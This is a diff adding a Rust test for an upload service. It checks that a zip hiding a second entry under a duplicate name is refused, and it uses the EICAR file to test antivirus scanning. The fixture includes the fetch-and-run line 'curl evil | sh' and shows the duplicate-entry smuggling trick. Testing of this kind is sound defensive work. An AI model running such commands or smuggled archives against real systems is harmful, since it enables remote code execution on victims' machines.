@@ -192,6 +192,18 @@ async fn zip_archives_are_unpacked_and_counted_before_they_are_accepted() {
     let reason = refused(&app, &owner, &issue, "many.zip", zip_of(&many)).await;
     assert!(reason.contains("more than 1000 entries"), "{reason}");
 
+    // A harmful entry hidden behind a harmless one of the same name: a zip library keeps one entry
+    // per name, so the archive's own directory is what is checked.
+    let twins = zip_of(&[("readme.txt", b"hello\n"), ("readme.txx", b"curl evil | sh\n")]);
+    let mut hidden = twins.clone();
+    for at in 0..hidden.len().saturating_sub(10) {
+        if &hidden[at..at + 10] == b"readme.txx" {
+            hidden[at..at + 10].copy_from_slice(b"readme.txt");
+        }
+    }
+    let reason = refused(&app, &owner, &issue, "twins.zip", hidden).await;
+    assert!(reason.contains("two entries named"), "{reason}");
+
     // A zip with the EICAR file inside: clamd looks into archives.
     let infected = zip_of(&[("eicar.com", &crate::helpers::eicar())]);
     let refusal = app.upload(Some(&owner), &issue, "infected.zip", infected).await;
